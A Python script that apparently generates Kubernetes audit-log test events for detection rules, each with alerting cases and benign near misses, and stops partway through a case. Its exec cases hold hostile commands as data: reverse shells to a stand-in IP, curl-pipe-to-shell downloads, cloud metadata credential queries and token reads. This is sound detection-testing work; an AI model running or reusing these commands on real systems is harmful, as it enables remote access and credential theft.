#!/usr/bin/env python3
"""Writes the test events beside each rule: `<id>.fires.ndjson` (must raise
at least one alert) and `<id>.quiet.ndjson` (must raise none). Run from
anywhere; output is deterministic. `eksaudit alerts test` checks them.

The quiet events are the near misses: the benign traffic a careless rule
would flag (controllers, nodes, read-only access, allowed paths)."""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
ACCOUNT = "111122223333"
T0 = 1793606400000  # 2026-11-02T08:00:00Z
DAY = 86_400_000

ADMIN = {"username": "kubernetes-admin", "uid": f"aws-iam-authenticator:{ACCOUNT}:AROAEXAMPLECREATOR",
         "groups": ["system:masters", "system:authenticated"],
         "extra": {"arn": [f"arn:aws:sts::{ACCOUNT}:assumed-role/EKSClusterCreator/jane"],
                   "canonicalArn": [f"arn:aws:iam::{ACCOUNT}:role/EKSClusterCreator"], "sessionName": ["jane"]}}
DEV = {"username": "dev-alice", "uid": f"aws-iam-authenticator:{ACCOUNT}:AROAEXAMPLEDEV",
       "groups": ["developers", "system:authenticated"],
       "extra": {"arn": [f"arn:aws:sts::{ACCOUNT}:assumed-role/Developers/alice"],
                 "canonicalArn": [f"arn:aws:iam::{ACCOUNT}:role/Developers"], "sessionName": ["alice"]}}
ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
NODE = {"username": "system:node:ip-10-0-1-20.ec2.internal", "groups": ["system:nodes", "system:authenticated"]}
RS = {"username": "system:serviceaccount:kube-system:replicaset-controller",
      "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}
DS = {"username": "system:serviceaccount:kube-system:daemon-set-controller",
      "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}
ECR_EKS = "602401143452.dkr.ecr.us-west-2.amazonaws.com"
GC = {"username": "system:serviceaccount:kube-system:generic-garbage-collector",
      "groups": ["system:serviceaccounts", "system:authenticated"]}
EKS = {"username": "eks:addon-manager", "groups": ["system:authenticated"]}
APP_SA = {"username": "system:serviceaccount:shop:cart", "groups": ["system:serviceaccounts", "system:authenticated"]}

KUBECTL = "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc"
OFFICE = "10.20.0.15"
PUBLIC = "198.51.100.77"

_n = [0]


def ts(ms):
    import datetime
    t = datetime.datetime.fromtimestamp(ms / 1000, datetime.timezone.utc)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06dZ" % ((ms % 1000) * 1000)


def ev(ms, user, verb, resource=None, ns=None, name=None, sub=None, ip=OFFICE, code=200,
       uri=None, request=None, group="", agent=KUBECTL, impersonated=None, decision=None):
    _n[0] += 1
    obj = None
    if resource:
        obj = {"resource": resource, "apiVersion": "v1"}
        if group:
            obj["apiGroup"] = group
        if ns:
            obj["namespace"] = ns
        if name:
            obj["name"] = name
        if sub:
            obj["subresource"] = sub
    if uri is None:
        base = f"/apis/{group}/v1" if group else "/api/v1"
        uri = base + (f"/namespaces/{ns}" if ns else "") + f"/{resource}" + (f"/{name}" if name else "") + (f"/{sub}" if sub else "")
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request" if request else "Metadata",
         "auditID": "aaaaaaaa-0000-4000-8000-%012d" % _n[0], "stage": "ResponseComplete",
         "requestURI": uri, "verb": verb, "user": user}
    if impersonated:
        e["impersonatedUser"] = impersonated
    e["sourceIPs"] = [ip]
    e["userAgent"] = agent
    if obj:
        e["objectRef"] = obj
    e["responseStatus"] = {"metadata": {}, "code": code}
    if request is not None:
        e["requestObject"] = request
    e["requestReceivedTimestamp"] = ts(ms)
    e["stageTimestamp"] = ts(ms + 3)
    if decision is None:
        decision = "forbid" if code == 403 else "allow"
    e["annotations"] = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""}
    return e


def binding(kind, name, role, subjects, ns=None):
    meta = {"name": name}
    if ns:
        meta["namespace"] = ns
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": meta,
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": subjects}


def pod_spec(**extra):
    spec = {"containers": [{"name": "app", "image": "public.ecr.aws/nginx/nginx:1.27"}]}
    spec.update(extra)
    return spec


def container(**sc):
    return {"containers": [{"name": "app", "image": "public.ecr.aws/nginx/nginx:1.27", "securityContext": sc}]}


def deployment(spec):
    return {"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "web", "namespace": "shop"},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "web"}},
                     "template": {"metadata": {"labels": {"app": "web"}}, "spec": spec}}}


def cronjob(spec):
    return {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "nightly", "namespace": "shop"},
            "spec": {"schedule": "0 3 * * *", "jobTemplate": {"spec": {"template": {"spec": spec}}}}}


def pod(spec):
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "debug", "namespace": "shop"}, "spec": spec}


def role(kind, name, rules):
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name}, "rules": rules}


def service(name, kind):
    return {"kind": "Service", "apiVersion": "v1", "metadata": {"name": name},
            "spec": {"type": kind, "ports": [{"port": 443, "targetPort": 8443}]}}


def review(attributes):
    return {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
            "spec": {"resourceAttributes": attributes}}


AGG = {"username": "system:serviceaccount:kube-system:clusterrole-aggregation-controller",
       "groups": ["system:serviceaccounts", "system:authenticated"]}
NS_CTRL = {"username": "system:serviceaccount:kube-system:namespace-controller",
           "groups": ["system:serviceaccounts", "system:authenticated"]}


def owned_pod(owner, spec):
    """A pod as a controller creates it: generateName and an owner."""
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"generateName": owner + "-", "namespace": "shop",
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": owner,
                                              "controller": True}]},
            "spec": spec}


def exec_ev(ms, user, *words, ns="shop", pod="web-1", code=101):
    from urllib.parse import quote_plus
    query = "&".join("command=" + quote_plus(w) for w in words) + "&container=app&stdin=true&stdout=true"
    return ev(ms, user, "create", "pods", ns, pod, "exec", code=code,
              uri=f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{query}")


def burst(n, make, step=1000):
    return [make(i, T0 + i * step) for i in range(n)]


RBAC = "rbac.authorization.k8s.io"
T = T0

CASES = {
    "kubernetes-admin-used": (
        [ev(T, ADMIN, "list", "nodes"), ev(T + 1000, ADMIN, "get", "pods", "kube-system", "coredns-1")],
        [ev(T, DEV, "list", "pods", "shop"), ev(T + 1000, NODE, "get", "nodes", name="ip-10-0-1-20.ec2.internal")],
    ),
    "unexpected-source-ip": (
        [ev(T, DEV, "list", "pods", "shop", ip=PUBLIC)],
        [ev(T, DEV, "list", "pods", "shop", ip=OFFICE), ev(T + 1000, NODE, "get", "nodes", ip="203.0.113.9"),
         ev(T + 2000, ANON, "get", uri="/version", ip=PUBLIC)],
    ),
    "new-source-ip-for-user": (
        [ev(T, DEV, "list", "pods", "shop", ip=OFFICE), ev(T + 15 * DAY, DEV, "list", "pods", "shop", ip=PUBLIC)],
        [ev(T, DEV, "list", "pods", "shop", ip=OFFICE), ev(T + 10 * DAY, DEV, "get", "pods", "shop", "web", ip=OFFICE),
         ev(T + 20 * DAY, DEV, "list", "pods", "shop", ip=OFFICE),
         ev(T + 2 * DAY, DEV, "list", "pods", "shop", ip="10.20.0.16"),
         ev(T + 21 * DAY, NODE, "get", "nodes", ip="10.0.9.9")],
    ),
    "anonymous-request-allowed": (
        [ev(T, ANON, "list", "pods", uri="/api/v1/pods", ip=PUBLIC)],
        [ev(T, ANON, "get", uri="/version", ip=PUBLIC), ev(T + 100, ANON, "get", uri="/healthz?verbose", ip=PUBLIC),
         ev(T + 200, ANON, "get", uri="/.well-known/openid-configuration", ip=PUBLIC),
         ev(T + 300, ANON, "list", "pods", uri="/api/v1/pods", ip=PUBLIC, code=403)],
    ),
    "anonymous-scanning": (
        [ev(T + i * 500, ANON, "get", uri=u, ip=PUBLIC, code=403)
         for i, u in enumerate(["/.env", "/api/v1/secrets", "/apis", "/wp-login.php"])],
        [ev(T + i * 500, ANON, "get", uri="/version", ip=PUBLIC) for i in range(5)]
        + [ev(T + i * 400_000, ANON, "get", uri="/.env", ip=PUBLIC, code=403) for i in range(3)],
    ),
    "forbidden-burst": (
        burst(25, lambda i, t: ev(t, DEV, "get", "secrets", "kube-system", f"s{i}", code=403)),
        burst(10, lambda i, t: ev(t, DEV, "get", "secrets", "kube-system", f"s{i}", code=403))
        + burst(25, lambda i, t: ev(t, DEV, "get", "pods", "shop", f"p{i}")),
    ),
    "rbac-grant-to-anonymous": (
        [ev(T, DEV, "create", "clusterrolebindings", name="open", group=RBAC,
            request=binding("ClusterRoleBinding", "open", "view", [{"kind": "User", "apiGroup": RBAC, "name": "system:anonymous"}]))],
        [ev(T, DEV, "create", "clusterrolebindings", name="viewers", group=RBAC,
            request=binding("ClusterRoleBinding", "viewers", "view", [{"kind": "Group", "apiGroup": RBAC, "name": "system:authenticated"}]))],
    ),
    "cluster-admin-binding": (
        [ev(T, DEV, "create", "clusterrolebindings", name="alice-admin", group=RBAC,
            request=binding("ClusterRoleBinding", "alice-admin", "cluster-admin", [{"kind": "User", "apiGroup": RBAC, "name": "alice"}]))],
        [ev(T, DEV, "create", "rolebindings", "shop", "alice-edit", group=RBAC,
            request=binding("RoleBinding", "alice-edit", "edit", [{"kind": "User", "apiGroup": RBAC, "name": "alice"}], "shop")),
         ev(T + 1000, DEV, "get", "clusterrolebindings", name="cluster-admin", group=RBAC)],
    ),
    "default-service-account-admin": (
        [ev(T, DEV, "create", "rolebindings", "shop", "default-admin", group=RBAC,
            request=binding("RoleBinding", "default-admin", "admin", [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}], "shop"))],
        [ev(T, DEV, "create", "rolebindings", "shop", "cart-admin", group=RBAC,
            request=binding("RoleBinding", "cart-admin", "admin", [{"kind": "ServiceAccount", "name": "cart", "namespace": "shop"}], "shop")),
         ev(T + 1000, DEV, "create", "rolebindings", "shop", "default-view", group=RBAC,
            request=binding("RoleBinding", "default-view", "view", [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}], "shop"))],
    ),
    "aws-auth-modified": (
        [ev(T, ADMIN, "patch", "configmaps", "kube-system", "aws-auth", request={"data": {"mapUsers": "- userarn: x"}})],
        [ev(T, ADMIN, "get", "configmaps", "kube-system", "aws-auth"),
         ev(T + 1000, DEV, "patch", "configmaps", "shop", "aws-auth", request={"data": {}})],
    ),
    "secrets-listed-broadly": (
        [ev(T, DEV, "list", "secrets"), ev(T + 1000, DEV, "list", "secrets", "kube-system")],
        [ev(T, DEV, "list", "secrets", "shop"), ev(T + 1000, RS, "list", "secrets"),
         ev(T + 2000, DEV, "get", "secrets", "kube-system", "one")],
    ),
    "secret-enumeration-burst": (
        burst(12, lambda i, t: ev(t, APP_SA, "get", "secrets", "shop", f"secret-{i}", ip="10.0.3.3")),
        burst(12, lambda i, t: ev(t, APP_SA, "get", "secrets", "shop", "db-login", ip="10.0.3.3"))
        + burst(12, lambda i, t: ev(t, APP_SA, "get", "secrets", "shop", f"s-{i}", ip="10.0.3.3"), step=60_000),
    ),
    "secret-access-denied": (
        [ev(T, DEV, "get", "secrets", "default", "db-login", code=403)],
        [ev(T, DEV, "get", "secrets", "shop", "db-login"),
         ev(T + 1000, ANON, "get", "secrets", "kube-system", ip=PUBLIC, code=403),
         ev(T + 2000, DEV, "get", "configmaps", "default", "x", code=403)],
    ),
    "exec-into-pod": (
        [ev(T, DEV, "create", "pods", "shop", "web-1", "exec", code=101,
            uri="/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command=id&container=app&stdin=true&tty=true")],
        [ev(T, DEV, "get", "pods", "shop", "web-1", "log"), ev(T + 1000, DEV, "get", "pods", "shop", "web-1")],
    ),
    "privileged-container": (
        [ev(T, DEV, "create", "pods", "shop", "debug", request=pod(container(privileged=True))),
         ev(T + 1000, DEV, "create", "deployments", "shop", "web", group="apps", request=deployment(container(privileged=True)))]
        # A Deployment older than the log scaled to 50: one alert.
        + [ev(T + 2000 + i, RS, "create", "pods", "shop", ip="10.0.0.5",
              request=owned_pod("web-5d8f7c", container(privileged=True))) for i in range(50)],
        [ev(T, DEV, "create", "deployments", "shop", "web", group="apps", request=deployment(container(privileged=False))),
         ev(T + 1000, RS, "create", "pods", "kube-system", ip="10.0.0.5",
            request=owned_pod("kube-proxy", container(privileged=True))),
         ev(T + 2000, EKS, "create", "daemonsets", "kube-system", "aws-node", group="apps",
            request={**deployment(container(privileged=True)), "kind": "DaemonSet"})],
    ),
    "sensitive-hostpath": (
        [ev(T, DEV, "create", "cronjobs", "shop", "nightly", group="batch",
            request=cronjob(pod_spec(volumes=[{"name": "root", "hostPath": {"path": "/", "type": "Directory"}}])))],
        [ev(T, DEV, "create", "deployments", "shop", "web", group="apps",
            request=deployment(pod_spec(volumes=[{"name": "logs", "hostPath": {"path": "/var/log/app"}}])))],
    ),
    "host-namespaces": (
        [ev(T, DEV, "create", "daemonsets", "shop", "agent", group="apps",
            request={**deployment(pod_spec(hostPID=True)), "kind": "DaemonSet"})],
        [ev(T, DEV, "create", "daemonsets", "shop", "agent", group="apps",
            request={**deployment(pod_spec(hostNetwork=False)), "kind": "DaemonSet"})],
    ),
    "privileged-impersonation": (
        [ev(T, DEV, "list", "secrets", "kube-system", impersonated={"username": "kubernetes-admin", "groups": ["system:masters"]})],
        [ev(T, ADMIN, "create", "selfsubjectaccessreviews", group="authorization.k8s.io",
            impersonated={"username": "user1", "groups": ["system:authenticated"]})],
    ),
    "service-account-token-minted": (
        [ev(T, DEV, "create", "serviceaccounts", "kube-system", "aws-node", "token")],
        [ev(T, NODE, "create", "serviceaccounts", "kube-system", "aws-node", "token", ip="10.0.1.20")],
    ),
    "nodes-proxy": (
        [ev(T, DEV, "get", "nodes", name="ip-10-0-1-20.ec2.internal", sub="proxy",
            uri="/api/v1/nodes/ip-10-0-1-20.ec2.internal/proxy/runningpods/")],
        [ev(T, DEV, "get", "nodes", name="ip-10-0-1-20.ec2.internal"),
         ev(T + 1000, {"username": "system:kube-apiserver"}, "get", "nodes", name="ip-10-0-1-20.ec2.internal", sub="proxy")],
    ),
    "networkpolicy-deleted": (
        [ev(T, DEV, "delete", "networkpolicies", "shop", "deny-all", group="networking.k8s.io")],
        [ev(T, DEV, "create", "networkpolicies", "shop", "deny-all", group="networking.k8s.io", request={"kind": "NetworkPolicy"}),
         ev(T + 1000, DEV, "delete", "networkpolicies", "shop", "deny-all", group="networking.k8s.io", code=403)],
    ),
    "admission-webhook-changed": (
        [ev(T, DEV, "delete", "validatingwebhookconfigurations", name="policy-agent", group="admissionregistration.k8s.io")],
        [ev(T, EKS, "patch", "mutatingwebhookconfigurations", name="pod-identity-webhook", group="admissionregistration.k8s.io",
            request={}),
         ev(T + 1000, DEV, "list", "validatingwebhookconfigurations", group="admissionregistration.k8s.io")],
    ),
    "system-principal-public-ip": (
        [ev(T, NODE, "get", "nodes", name="ip-10-0-1-20.ec2.internal", ip=PUBLIC)],
        [ev(T, NODE, "get", "nodes", name="ip-10-0-1-20.ec2.internal", ip="10.0.1.20"),
         ev(T + 1000, ANON, "get", uri="/version", ip=PUBLIC), ev(T + 2000, DEV, "list", "pods", "shop", ip=PUBLIC),
         ev(T + 3000, EKS, "get", "deployments", "kube-system", "coredns", group="apps", ip="35.163.244.48")],
    ),
    "mass-deletion": (
        burst(25, lambda i, t: ev(t, DEV, "delete", "deployments", "shop", f"d{i}", group="apps")),
        burst(25, lambda i, t: ev(t, GC, "delete", "pods", "shop", f"p{i}", ip="10.0.0.5"))
        + burst(10, lambda i, t: ev(t, DEV, "delete", "pods", "shop", f"p{i}")),
    ),
    "dangerous-role-created": (
        [ev(T, DEV, "create", "clusterroles", name="ops-all", group=RBAC,
            request=role("ClusterRole", "ops-all", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])),
         ev(T + 1000, ADMIN, "patch", "roles", "shop", "debugger", group=RBAC,
            request={"rules": [{"apiGroups": [""], "resources": ["pods", "pods/exec"], "verbs": ["create", "get"]}]}),
         ev(T + 2000, DEV, "create", "roles", "shop", "binder", group=RBAC,
            request=role("Role", "binder", [{"apiGroups": [RBAC], "resources": ["rolebindings"], "verbs": ["bind", "create"]}]))],
        [ev(T, DEV, "create", "roles", "shop", "reader", group=RBAC,
            request=role("Role", "reader", [{"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get", "list", "watch"]}])),
         ev(T + 1000, AGG, "update", "clusterroles", name="admin", group=RBAC,
            request=role("ClusterRole", "admin", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])),
         ev(T + 2000, DEV, "create", "clusterroles", name="ops-all", group=RBAC, code=403,
            request=role("ClusterRole", "ops-all", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]))],
    ),
    "system-role-modified": (
        [ev(T, DEV, "patch", "clusterroles", name="system:node", group=RBAC, request={"rules": []}),
         ev(T + 1000, ADMIN, "delete", "clusterroles", name="eks:node-manager", group=RBAC)],
        [ev(T, EKS, "patch", "clusterroles", name="eks:addon-manager", group=RBAC, request={}),
         ev(T + 1000, DEV, "patch", "clusterroles", name="app-reader", group=RBAC, request={}),
         ev(T + 2000, DEV, "get", "clusterroles", name="system:node", group=RBAC),
         ev(T + 3000, DEV, "delete", "clusterroles", name="system:node", group=RBAC, code=403)],
    ),
    "dangerous-capabilities": (
        [ev(T, DEV, "create", "deployments", "shop", "web", group="apps",
            request=deployment(container(capabilities={"add": ["SYS_ADMIN"]}))),
         ev(T + 1000, DEV, "create", "pods", "shop", "debug", request=pod(container(capabilities={"add": ["NET_BIND_SERVICE", "CAP_BPF"]})))],
        [ev(T, DEV, "create", "deployments", "shop", "web", group="apps",
            request=deployment(container(capabilities={"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}))),
         ev(T + 1000, DEV, "create", "pods", "shop", "debug", request=pod(container(capabilities={"drop": ["SYS_ADMIN", "NET_ADMIN"]}))),
         ev(T + 2000, EKS, "create", "daemonsets", "kube-system", "aws-node", group="apps",
            request={**deployment(container(capabilities={"add": ["NET_ADMIN"]})), "kind": "DaemonSet"})],
    ),
    "ephemeral-container": (
        [ev(T, DEV, "patch", "pods", "shop", "web-1", "ephemeralcontainers",
            request={"spec": {"ephemeralContainers": [{"name": "debugger", "image": "busybox"}]}})],
        [ev(T, DEV, "get", "pods", "shop", "web-1", "ephemeralcontainers"),
         ev(T + 1000, DEV, "patch", "pods", "shop", "web-1", "ephemeralcontainers", code=403, request={}),
         ev(T + 2000, DEV, "patch", "pods", "shop", "web-1", request={"metadata": {"labels": {"a": "b"}}})],
    ),
    "csr-created-or-approved": (
        [ev(T, DEV, "create", "certificatesigningrequests", name="mallory", group="certificates.k8s.io",
            request={"kind": "CertificateSigningRequest", "spec": {"signerName": "kubernetes.io/kube-apiserver-client",
                                                                    "usages": ["client auth"], "request": "LS0t"}}),
         ev(T + 1000, ADMIN, "update", "certificatesigningrequests", name="mallory", sub="approval", group="certificates.k8s.io",
            request={"status": {"conditions": [{"type": "Approved"}]}})],
        [ev(T, NODE, "create", "certificatesigningrequests", name="csr-abc", group="certificates.k8s.io", ip="10.0.1.20",
            request={"spec": {"signerName": "kubernetes.io/kubelet-serving", "usages": ["server auth"]}}),
         ev(T + 1000, {"username": "eks:certificate-controller", "groups": ["system:authenticated"]}, "update",
            "certificatesigningrequests", name="csr-abc", sub="approval", group="certificates.k8s.io", request={}),
         ev(T + 2000, DEV, "list", "certificatesigningrequests", group="certificates.k8s.io")],
    ),
    "pod-in-system-namespace": (
        [ev(T, DEV, "create", "pods", "kube-system", "kube-proxy-x", request=pod(pod_spec()))],
        [ev(T, RS, "create", "pods", "kube-system", "coredns-5d8f-abcde", ip="10.0.0.5", request=pod(pod_spec())),
         ev(T + 1000, DEV, "create", "pods", "shop", "debug", request=pod(pod_spec())),
         ev(T + 2000, DEV, "create", "pods", "kube-system", "coredns-5d8f-abcde", "eviction", request={}),
         ev(T + 3000, DEV, "create", "pods", "kube-system", "x", code=403, request=pod(pod_spec()))],
    ),
    "serviceaccount-in-system-namespace": (
        [ev(T, DEV, "create", "serviceaccounts", "kube-system", "kube-proxy-helper", request={"kind": "ServiceAccount"})],
        [ev(T, DEV, "create", "serviceaccounts", "shop", "cart", request={"kind": "ServiceAccount"}),
         ev(T + 1000, EKS, "create", "serviceaccounts", "kube-system", "aws-node", request={"kind": "ServiceAccount"}),
         ev(T + 2000, DEV, "create", "serviceaccounts", "kube-system", "aws-node", "token", request={})],
    ),
    "nodeport-service": (
        [ev(T, DEV, "create", "services", "shop", "web", request=service("web", "NodePort"))],
        [ev(T, DEV, "create", "services", "shop", "web", request=service("web", "ClusterIP")),
         ev(T + 1000, DEV, "create", "services", "shop", "web-lb", request=service("web-lb", "LoadBalancer")),
         ev(T + 2000, DEV, "create", "services", "shop", "web", code=403, request=service("web", "NodePort"))],
    ),
    "dashboard-exposed": (
        [ev(T, DEV, "create", "services", "kubernetes-dashboard", "kubernetes-dashboard",
            request=service("kubernetes-dashboard", "LoadBalancer")),
         ev(T + 1000, DEV, "patch", "services", "kubeflow", "centraldashboard", request={"spec": {"type": "LoadBalancer"}})],
        [ev(T, DEV, "create", "services", "kubernetes-dashboard", "kubernetes-dashboard",
            request=service("kubernetes-dashboard", "ClusterIP")),
         ev(T + 1000, DEV, "create", "services", "shop", "web", request=service("web", "LoadBalancer"))],
    ),
    "permission-self-check": (
        [ev(T, DEV, "create", "selfsubjectrulesreviews", group="authorization.k8s.io",
            request={"kind": "SelfSubjectRulesReview", "spec": {"namespace": "shop"}}),
         ev(T + 1000, APP_SA, "create", "selfsubjectaccessreviews", group="authorization.k8s.io", ip="10.0.3.7",
            request=review({"verb": "get", "resource": "secrets", "namespace": "kube-system"}))],
        [ev(T, DEV, "create", "selfsubjectaccessreviews", group="authorization.k8s.io",
            request=review({"verb": "list", "resource": "pods", "namespace": "shop"})),
         ev(T + 1000, {"username": "system:serviceaccount:kube-system:aws-node", "groups": ["system:serviceaccounts"]},
            "create", "selfsubjectaccessreviews", group="authorization.k8s.io", ip="10.0.1.20",
            request=review({"verb": "create", "resource": "pods"}))],
    ),
    "events-deleted": (
        [ev(T, DEV, "deletecollection", "events", "shop"),
         ev(T + 1000, DEV, "delete", "events", "prod", "web-1.17a8f", group="events.k8s.io")],
        [ev(T, NS_CTRL, "deletecollection", "events", "old-team", ip="10.0.0.5"),
         ev(T + 1000, DEV, "list", "events", "shop"),
         ev(T + 2000, DEV, "deletecollection", "events", "shop", code=403)],
    ),
    "coredns-config-changed": (
        [ev(T, DEV, "patch", "configmaps", "kube-system", "coredns",
            request={"data": {"Corefile": ".:53 {\n  forward . 198.51.100.53\n}\n"}})],
        [ev(T, EKS, "patch", "configmaps", "kube-system", "coredns", request={}),
         ev(T + 1000, DEV, "get", "configmaps", "kube-system", "coredns"),
         ev(T + 2000, DEV, "patch", "configmaps", "kube-system", "app-config", request={"data": {"a": "b"}})],
    ),
    "port-forward": (
        [ev(T, DEV, "create", "pods", "shop", "db-0", "portforward", code=101,
            uri="/api/v1/namespaces/shop/pods/db-0/portforward")],
        [ev(T, DEV, "create", "pods", "shop", "db-0", "portforward", code=403,
            uri="/api/v1/namespaces/shop/pods/db-0/portforward"),
         ev(T + 1000, DEV, "get", "pods", "shop", "db-0")],
    ),
    "threat-cidr-request": (
        [ev(T, DEV, "list", "pods", "shop", ip=PUBLIC), ev(T + 1000, ANON, "get", uri="/version", ip="198.51.100.9")],
        [ev(T, DEV, "list", "pods", "shop", ip=OFFICE), ev(T + 1000, ANON, "get", uri="/version", ip="203.0.113.9")],
    ),
    "offensive-tool-user-agent": (
        [ev(T, DEV, "create", "selfsubjectaccessreviews", group="authorization.k8s.io",
            agent="access_matrix/v0.8.3 (linux/amd64) kubernetes/$Format", request={}),
         ev(T + 1000, ANON, "get", uri="/api", ip=PUBLIC, agent="trufflehog/3.63.2")],
        [ev(T, DEV, "list", "pods", "shop"),
         ev(T + 1000, APP_SA, "list", "pods", "shop", agent="Go-http-client/2.0", ip="10.0.3.7")],
    ),
    "privileged-role-binding": (
        [ev(T, DEV, "create", "rolebindings", "shop", "dev-admin", group=RBAC,
            request=binding("RoleBinding", "dev-admin", "admin", [{"kind": "User", "name": "dev-bob"}], "shop")),
         ev(T + 1000, DEV, "create", "rolebindings", "kube-system", "peek", group=RBAC,
            request=binding("RoleBinding", "peek", "view", [{"kind": "User", "name": "dev-bob"}], "kube-system"))],
        [ev(T, DEV, "create", "rolebindings", "shop", "dev-view", group=RBAC,
            request=binding("RoleBinding", "dev-view", "view", [{"kind": "User", "name": "dev-bob"}], "shop")),
         ev(T + 1000, EKS, "create", "rolebindings", "kube-system", "eks:addon", group=RBAC,
            request=binding("RoleBinding", "eks:addon", "view", [{"kind": "User", "name": "eks:addon-manager"}], "kube-system")),
         ev(T + 2000, DEV, "create", "clusterrolebindings", name="dev-root", group=RBAC,
            request=binding("ClusterRoleBinding", "dev-root", "cluster-admin", [{"kind": "User", "name": "dev-bob"}]))],
    ),
    "configmap-credentials": (
        [ev(T, DEV, "create", "configmaps", "shop", "app-env",
            request={"kind": "ConfigMap", "data": {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE", "AWS_SECRET_ACCESS_KEY": "wJalr"}}),
         ev(T + 1000, DEV, "patch", "configmaps", "shop", "db", request={"data": {"db_password": "hunter2"}}),
         ev(T + 2000, DEV, "create", "configmaps", "shop", "props",
            request={"data": {"access.properties": "aws_s3_access_key_id = MY-ID\n"}})],
        [ev(T, DEV, "create", "configmaps", "shop", "app-env", request={"kind": "ConfigMap", "data": {"LOG_LEVEL": "info"}}),
         ev(T + 500, DEV, "create", "configmaps", "shop", "ui", request={"data": {"ui.properties": "color.good=purple\nallow.textmode=true\n"}}),
         ev(T + 1000, DEV, "patch", "configmaps", "shop", "db", request={"data": {"db_password": ""}}),
         ev(T + 2000, {"username": "system:serviceaccount:kube-system:root-ca-cert-publisher", "groups": []}, "create",
            "configmaps", "shop", "kube-root-ca.crt", ip="10.0.0.5", request={"data": {"ca.crt": "-----BEGIN CERTIFICATE-----"}})],
    ),
    "cronjob-or-daemonset-created": (
        [ev(T, DEV, "create", "cronjobs", "shop", "nightly", group="batch", request=cronjob(pod_spec())),
         ev(T + 1000, DEV, "create", "daemonsets", "shop", "agent", group="apps",
            request={**deployment(pod_spec()), "kind": "DaemonSet"})],
        [ev(T, EKS, "create", "daemonsets", "kube-system", "aws-node", group="apps", request={}),
         ev(T + 1000, DEV, "create", "deployments", "shop", "web", group="apps", request=deployment(pod_spec())),
         ev(T + 2000, {"username": "system:serviceaccount:kube-system:cronjob-controller", "groups": []},
            "create", "jobs", "shop", "nightly-29000", group="batch", ip="10.0.0.5", request={})],
    ),
    "exec-cloud-metadata": (
        [exec_ev(T, DEV, "sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         exec_ev(T + 1000, DEV, "wget", "-qO-", "http://[fd00:ec2::254]/latest/api/token"),
         exec_ev(T + 2000, DEV, "sh", "-c", "curl $AWS_CONTAINER_CREDENTIALS_FULL_URI http://169.254.170.23/v1/credentials")],
        [exec_ev(T, DEV, "sh", "-c", "curl -s http://web.shop.svc:8080/healthz"),
         exec_ev(T + 1000, DEV, "ls", "/latest"),
         exec_ev(T + 2000, NODE, "sh", "-c", "curl http://169.254.169.254/latest/meta-data/")],
    ),
    "exec-credential-read": (
        [exec_ev(T, DEV, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
         exec_ev(T + 1000, DEV, "sh", "-c", "cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token"),
         exec_ev(T + 2000, DEV, "sh", "-c", "tar cz /root/.aws/ | base64"),
         exec_ev(T + 3000, DEV, "cat", "/proc/1/environ")],
        [exec_ev(T, DEV, "cat", "/etc/hostname"),
         exec_ev(T + 1000, DEV, "ls", "/var/run"),
         exec_ev(T + 2000, DEV, "sh", "-c", "echo keyboard"),
         exec_ev(T + 3000, DEV, "cat", "/app/config.yaml")],
    ),
    "exec-download-and-run": (
        [exec_ev(T, DEV, "sh", "-c", "curl -fsSL https://198.51.100.7/x.sh | sh"),
         exec_ev(T + 1000, DEV, "sh", "-c", "wget -q http://198.51.100.7/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
         exec_ev(T + 2000, DEV, "bash", "-c", "curl -s https://example.com/p.py | python3")],
        [exec_ev(T, DEV, "curl", "-s", "https://web.shop.svc/healthz"),
         exec_ev(T + 1000, DEV, "sh", "-c", "wget -qO- http://localhost:8080/metrics | grep up"),
         exec_ev(T + 2000, DEV, "chmod", "+x", "/app/run.sh")],
    ),
    "exec-reverse-shell": (
        [exec_ev(T, DEV, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
         exec_ev(T + 1000, DEV, "sh", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f"),
         exec_ev(T + 2000, DEV, "nc", "-e", "/bin/sh", "198.51.100.7", "4444"),
         exec_ev(T + 3000, DEV, "python3", "-c", "import pty,socket,os;s=socket.socket();s.connect(('198.51.100.7',4444));pty.spawn('sh')")],
        [exec_ev(T, DEV, "bash"),
         exec_ev(T + 1000, DEV, "nc", "-z", "db.shop.svc", "5432"),
         exec_ev(T + 2000, DEV, "sh", "-c", "echo ok > /tmp/out")],
    ),
    "kubectl-cp-out": (
        [exec_ev(T, DEV, "tar", "cf", "-", "/app/data", pod="db-0")],
